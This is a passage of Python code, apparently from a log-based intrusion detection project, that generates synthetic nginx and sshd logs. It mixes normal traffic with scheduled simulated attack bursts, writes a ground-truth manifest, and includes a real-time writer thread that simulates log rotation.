                if made >= n_normal:
                    break
                while ai < na and attack_lines[ai][0] <= p[0]:
                    planned.append(attack_lines[ai])
                    ai += 1
                planned.append(p)
                made += 1
            t = block[-1][0] + gap
            if len(planned) >= 50_000:
                flush()
        planned.extend(attack_lines[ai:])
        flush()
    finally:
        for fh in handles:
            fh.close()
    return written


def _plan_batch(
    rng: random.Random,
    *,
    start_ts: float,
    span: float,
    lines: dict[str, int],
    attack_ratio: float,
) -> list[_Episode]:
    """Attack episodes for a batch run, until each file's attack budget is used.

    Every kind comes once before kinds are drawn at random, so that even a small
    scenario has all of them.
    """
    addrs = _Addresses(rng)
    episodes: list[_Episode] = []

    def place(duration_hint: float) -> float:
        return start_ts + rng.random() * max(span - duration_hint, 1.0)

    def queue(makers: tuple[tuple[float, _EpisodeMaker], ...]) -> Iterator[_EpisodeMaker]:
        first = [m for _, m in makers]
        rng.shuffle(first)
        yield from first
        while True:
            yield _pick(rng, makers)

    # sshd: the admin and the office first, then attackers until the budget is used.
    if lines["auth"] > 0:
        episodes.append(_ep_admin(place(60)))
        office = _ep_ssh_brute(rng, OFFICE_ADDRESS, place(120), 1.0, attempts=8)
        office.attack = replace(office.attack, allowlisted=True)
        episodes.append(office)
        budget = attack_ratio * lines["auth"] - sum(len(e.auth) for e in episodes)
        ssh_makers = queue(_SSH_MAKERS)
        while budget > 0:
            ep = next(ssh_makers)(rng, addrs.next(), place(300), 1.0)
            budget -= len(ep.auth)
            episodes.append(ep)
    access_budget = attack_ratio * lines["access"]
    error_budget = attack_ratio * lines["error"]
    http_makers = queue(_HTTP_MAKERS)
    while access_budget > 0 or error_budget > 0:
        # When only the error log still wants attack lines, auth failures provide them.
        maker = next(http_makers) if access_budget > 0 else _ep_http_auth
        ep = maker(rng, addrs.next(), place(300), 1.0)
        if access_budget <= 0 and len(ep.access) > lines["access"] // 20 + 1:
            break  # do not flood a small access log for the error log's sake
        access_budget -= len(ep.access)
        error_budget -= len(ep.error)
        episodes.append(ep)
    return episodes


def _http_normal(rng: random.Random, clients: list[_Client]) -> Callable[[float], list[Planned]]:
    """Normal access-log records one at a time, made in bulk behind the scenes."""
    normal = _NormalHttp(rng, clients)
    pending: Iterator[AccessRec] = iter(())

    def next_rec(t: float) -> list[Planned]:
        nonlocal pending
        rec = next(pending, None)
        if rec is None:
            pending = normal.records(4096)
            rec = next(pending)
        return [(t + rng.random() * 0.02, rec)]

    return next_rec


def generate(
    out_dir: Path | str,
    *,
    lines_nginx: int = 10_000,
    lines_sshd: int = 5_000,
    seed: int = 0,
    start_ts: float = DEFAULT_START_TS,
    attack_ratio: float = 0.1,
    lines_error: int | None = None,
    nginx_json: bool = False,
) -> Manifest:
    """Write ``access.log``, ``error.log`` and ``auth.log`` (and ``access.json.log`` when
    ``nginx_json``) into ``out_dir`` and return (and write) the manifest.

    Each file gets exactly the number of lines asked for, unless the attacks alone
    need more (tiny files). About ``attack_ratio`` of each file's lines are attack
    lines. ``lines_error`` defaults to a tenth of ``lines_nginx``. Normal traffic runs
    at about 20 lines/s per file from ``start_ts``; attacks are bursts placed at
    random inside that span. Raises ``ValueError`` for negative counts or a ratio
    outside [0, 0.9].
    """
    if lines_error is None:
        lines_error = lines_nginx // 10
    if min(lines_nginx, lines_sshd, lines_error) < 0:
        raise ValueError("line counts cannot be negative")
    if not 0.0 <= attack_ratio <= 0.9:
        raise ValueError(f"attack_ratio must be within [0, 0.9], got {attack_ratio}")
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    rng = _rng(seed)
    clients = _benign_clients(rng)
    span = max(600.0, max(lines_nginx, lines_sshd, lines_error) / 20.0)
    asked = {"access": lines_nginx, "error": lines_error, "auth": lines_sshd}
    episodes = _plan_batch(
        rng, start_ts=start_ts, span=span, lines=asked, attack_ratio=attack_ratio
    )

    def collect(which: str) -> list[Planned]:
        return [p for ep in episodes for p in getattr(ep, which)]

    # One rng per file so that one file's traffic does not reshuffle another's.
    http_rng, err_rng, ssh_rng = _rng(rng.random()), _rng(rng.random()), _rng(rng.random())
    files = {"access": ACCESS_LOG, "error": ERROR_LOG, "auth": AUTH_LOG}
    lines: dict[str, int] = {}
    access_ts = _TsCache(fmt_access_ts)
    access_out: list[tuple[Path, Callable[[float, Any], str]]] = [
        (out / ACCESS_LOG, lambda ts, rec: render_access(access_ts(ts), rec))
    ]
    if nginx_json:
        files["access_json"] = ACCESS_JSON_LOG
        access_out.append((out / ACCESS_JSON_LOG, render_access_json))
    lines["access"] = _write_stream(
        access_out, lines_nginx, collect("access"), _http_normal(http_rng, clients),
        start_ts=start_ts, span=span,
    )  # fmt: skip
    if nginx_json:
        lines["access_json"] = lines["access"]
    err_ts = _TsCache(fmt_error_ts)
    lines["error"] = _write_stream(
        [(out / ERROR_LOG, lambda ts, tail: err_ts(ts) + tail)], lines_error, collect("error"),
        lambda t: [(t, _normal_error(err_rng, clients))], start_ts=start_ts, span=span,
    )  # fmt: skip
    sys_ts = _TsCache(fmt_syslog_ts)
    ssh = _NormalSsh(ssh_rng)
    ssh_gap = span / max(lines_sshd, 1)
    lines["auth"] = _write_stream(
        [(out / AUTH_LOG, lambda ts, tail: sys_ts(ts) + tail)], lines_sshd, collect("auth"),
        lambda t: ssh.block(t, ssh_gap), start_ts=start_ts, span=span,
        head=[
            (start_ts, _sshd(611, "Server listening on 0.0.0.0 port 22.")),
            (start_ts, _sshd(611, "Server listening on :: port 22.")),
        ][: min(lines_sshd, 2)],
    )  # fmt: skip
    manifest = Manifest(
        seed=seed,
        start_ts=start_ts,
        end_ts=start_ts + span,
        files=files,
        lines=lines,
        attacks={ep.attack.address: ep.attack for ep in episodes if not ep.benign},
        benign=_benign_addresses(clients),
    )
    (out / MANIFEST).write_text(manifest.to_json() + "\n", encoding="utf-8")
    return manifest


# --------------------------------------------------------------------------- live


LivePlan = list[tuple[float, str, Any]]
"""(offset in seconds, file role, record) in offset order."""


def _plan_live(
    seed: int, rate: float, duration: float
) -> tuple[LivePlan, Manifest, dict[str, float]]:
    """The whole live run: normal traffic plus one burst of each attack, spread out; and
    the offset of each attack's last line."""
    rng = _rng(seed)
    addrs = _Addresses(rng)
    clients = _benign_clients(rng)
    pace = 0.25  # attacks are compressed so that the demo shows them within seconds
    makers: list[Callable[[float], _Episode]] = [
        lambda t: _ep_ssh_brute(rng, addrs.next(), t, pace, attempts=8),
        lambda t: _ep_scan(rng, addrs.next(), t, pace),
        _ep_admin,
        lambda t: _ep_recon(rng, addrs.next(), t, pace),
        lambda t: _ep_http_auth(rng, addrs.next(), t, pace),
        lambda t: _ep_exploit(rng, addrs.next(), t, pace),
        lambda t: _ep_ssh_stuffing(rng, addrs.next(), t, pace),
        lambda t: _ep_rate_abuse(rng, addrs.next(), t, pace, n=min(600, int(duration * 10))),
        lambda t: _ep_ssh_brute(rng, OFFICE_ADDRESS, t, pace, attempts=8),
    ]
    episodes = [make(duration * (0.05 + 0.8 * i / len(makers))) for i, make in enumerate(makers)]
    episodes[-1].attack = replace(episodes[-1].attack, allowlisted=True)
    plan: LivePlan = []
    for ep in episodes:
        plan += [(t, "access", r) for t, r in ep.access]
        plan += [(t, "error", r) for t, r in ep.error]
        plan += [(t, "auth", r) for t, r in ep.auth]
    normal_http = _NormalHttp(_rng(rng.random()), clients).records(int(rate * duration) + 1)
    ssh = _NormalSsh(_rng(rng.random()))
    err_rng = _rng(rng.random())
    t = 0.0
    gap = 1.0 / rate
    i = 0
    while t < duration:
        if i % 5 == 4:
            plan += [(ts, "auth", r) for ts, r in ssh.block(t, gap)]
        elif i % 50 == 7:
            plan.append((t, "error", _normal_error(err_rng, clients)))
        else:
            plan.append((t, "access", next(normal_http)))
        i += 1
        t += gap * (0.5 + rng.random())
    plan.sort(key=lambda p: p[0])
    manifest = Manifest(
        seed=seed,
        start_ts=0.0,
        end_ts=plan[-1][0],
        files={"access": ACCESS_LOG, "error": ERROR_LOG, "auth": AUTH_LOG},
        lines={k: sum(1 for p in plan if p[1] == k) for k in ("access", "error", "auth")},
        attacks={ep.attack.address: ep.attack for ep in episodes if not ep.benign},
        benign=_benign_addresses(clients),
    )
    ends = {
        ep.attack.address: max(t for t, _ in (*ep.access, *ep.error, *ep.auth))
        for ep in episodes
        if not ep.benign
    }
    return plan, manifest, ends


class LiveScenario:
    """Appends log lines in real time from a writer thread.

    Plan: normal traffic at ``rate`` lines/s (four nginx lines for each sshd line)
    for ``duration`` seconds of ``clock.monotonic()``, with one burst of every
    attack kind spread over the run (plus the admin's two typos and the office's
    allowlisted brute force), and one logrotate-style rotation at half time: each
    file is renamed to ``NAME.1`` and a new empty one is created. Timestamps in the
    lines are ``clock.now()`` at the moment of writing.

    The thread checks the clock every ``tick`` seconds of real time, so with a
    :class:`~aisentinel.clock.FakeClock` lines appear as the test advances it. The
    ground truth is known before the start: :attr:`manifest`.
    """

    def __init__(
        self,
        out_dir: Path | str,
        *,
        seed: int = 0,
        rate: float = 40.0,
        duration: float = 45.0,
        clock: Clock | None = None,
        tick: float = 0.05,
        rotate: bool = True,
    ) -> None:
        if rate <= 0 or duration <= 0 or tick <= 0:
            raise ValueError("rate, duration and tick must be positive")
        self.out_dir = Path(out_dir)
        self.clock: Clock = clock or SystemClock()
        self.duration = duration
        self.tick = tick
        self.rotate_at: float | None = duration / 2 if rotate else None
        self._stop = threading.Event()
        self._thread: threading.Thread | None = None
        self._error: BaseException | None = None
        self.lines_written: dict[str, int] = {"access": 0, "error": 0, "auth": 0}
        self.rotated = threading.Event()
        """Set once the rotation has happened."""
        self.finished = threading.Event()
        """Set when the writer has written its whole plan (not when stopped early)."""
        self._plan, self.manifest, self._ends = _plan_live(seed, rate, duration)
        self._next = 0
        """The index of the first plan entry not written yet."""

    def played_attacks(self) -> frozenset[str]:
        """The manifest's attackers whose every line has been written (all of them once
        the writer has finished; fewer when it was stopped early)."""
        plan, written = self._plan, self._next
        return frozenset(
            address
            for address, end in self._ends.items()
            if written >= len(plan) or plan[written][0] > end
        )

    @property
    def planned_lines(self) -> dict[str, int]:
        """How many lines the plan writes to each file (also ``manifest.lines``)."""
        return dict(self.manifest.lines)

    def start(self) -> None:
        """Create the files (empty) and start the writer thread."""
        if self._thread is not None:
            raise RuntimeError("a LiveScenario runs once")
        self.out_dir.mkdir(parents=True, exist_ok=True)
        self._thread = threading.Thread(target=self._run, name="live-scenario", daemon=True)
        self._thread.start()

    def stop(self) -> None:
        """Ask the writer to stop after its current tick (files stay as written)."""
        self._stop.set()

    def join(self, timeout: float | None = None) -> bool:
        """Wait for the writer; True if it ended. Re-raises an error the writer hit."""
        if self._thread is not None:
            self._thread.join(timeout)
            if self._thread.is_alive():
                return False
        if self._error is not None:
            raise RuntimeError("the live scenario writer failed") from self._error
        return True

    def _run(self) -> None:
        try:
            self._write_all()
        except Exception as exc:  # noqa: BLE001 - handed to the caller by join()
            self._error = exc

    def _open_all(self) -> dict[str, IO[str]]:
        names = {"access": ACCESS_LOG, "error": ERROR_LOG, "auth": AUTH_LOG}
        return {k: (self.out_dir / v).open("a", encoding="utf-8") for k, v in names.items()}

    def _write_all(self) -> None:
        stamps = (_TsCache(fmt_access_ts), _TsCache(fmt_error_ts), _TsCache(fmt_syslog_ts))
        files = self._open_all()
        try:
            t0 = self.clock.monotonic()
            i = 0
            while not self._stop.is_set():
                elapsed = self.clock.monotonic() - t0
                due = self.rotate_at is not None and not self.rotated.is_set()
                if due and self.rotate_at is not None and elapsed >= self.rotate_at:
                    # What was due before the rotation goes into the old files.
                    i = self._next = self._write_due(files, i, self.rotate_at, stamps)
                    files = self._rotate(files)
                i = self._next = self._write_due(files, i, elapsed, stamps)
                if i >= len(self._plan):
                    self.finished.set()
                    return
                self._stop.wait(self.tick)
        finally:
            for fh in files.values():
                fh.close()

    def _write_due(
        self, files: dict[str, IO[str]], i: int, until: float, stamps: tuple[_TsCache, ...]
    ) -> int:
        """Write plan entries from ``i`` up to offset ``until``; returns the next index."""
        access_ts, err_ts, sys_ts = stamps
        plan = self._plan
        now = self.clock.now()
        touched: set[str] = set()
        while i < len(plan) and plan[i][0] <= until:
            _, which, rec = plan[i]
            if which == "access":
                line = render_access(access_ts(now), rec)
            elif which == "error":
                line = err_ts(now) + rec
            else:
                line = sys_ts(now) + rec
            files[which].write(line + "\n")
            self.lines_written[which] += 1
            touched.add(which)
            i += 1
        for which in touched:
            files[which].flush()
        return i

    def _rotate(self, files: dict[str, IO[str]]) -> dict[str, IO[str]]:
        """logrotate without copytruncate: rename to ``.1``, then create anew."""
        for fh in files.values():
            fh.close()
            path = Path(fh.name)
            path.rename(path.with_name(path.name + ".1"))
        self.rotated.set()
        return self._open_all()
